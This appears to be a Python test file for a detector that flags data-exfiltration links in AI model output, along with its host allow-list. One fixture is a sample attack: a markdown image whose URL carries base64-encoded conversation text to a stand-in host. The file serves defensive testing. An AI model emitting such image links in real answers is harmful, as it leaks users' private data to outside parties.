"""The detector with a list of hosts, beside requests, and on dense text."""

from stockade.core.findings import Inspection, Scope
from stockade.core.segments import Channel, Kind, Segment
from stockade.guard.detectors.exfiltration_links.detector import DETECTOR, Exfiltration
from stockade.guard.detectors.inspector import Inspector

LOADED = "![a](https://c.example/?d=dGhlIG9yZGVyIG9mIEFuYSBpcyBjYW5jZWxsZWQ)"


def inspect(
    detector: Exfiltration, text: str, scope: Scope = Scope.WHOLE, channel: Channel = Channel.ASSISTANT
) -> Inspection:
    return Inspector([detector]).inspect([Segment(("a",), text, "x", channel, Kind.TEXT, 0)], b"key", scope)


def test_an_answer_is_read_and_a_request_is_not() -> None:
    assert inspect(DETECTOR, LOADED).findings
    assert inspect(DETECTOR, LOADED, Scope.PIECE).findings
    request = inspect(DETECTOR, LOADED, Scope.REQUEST)
    assert (request.findings, request.runs) == ((), ())


def test_only_what_a_model_says_is_read() -> None:
    assert inspect(DETECTOR, LOADED, channel=Channel.TOOL_CALL).findings
    assert not inspect(DETECTOR, LOADED, channel=Channel.USER).findings


def test_hosts_make_another_version_and_another_rule() -> None:
    listed = Exfiltration(["docs.example", "*.acme.example"])
    assert listed.version != DETECTOR.version
    assert listed.version != Exfiltration(["docs.example"]).version
    text = "![a](https://docs.example/a.png) ![b](https://cdn.acme.example/b.png) ![c](https://c.example/c.png)"
    assert [f.rule for f in inspect(listed, text).findings] == ["host_not_listed"]
    assert inspect(DETECTOR, text).findings == ()
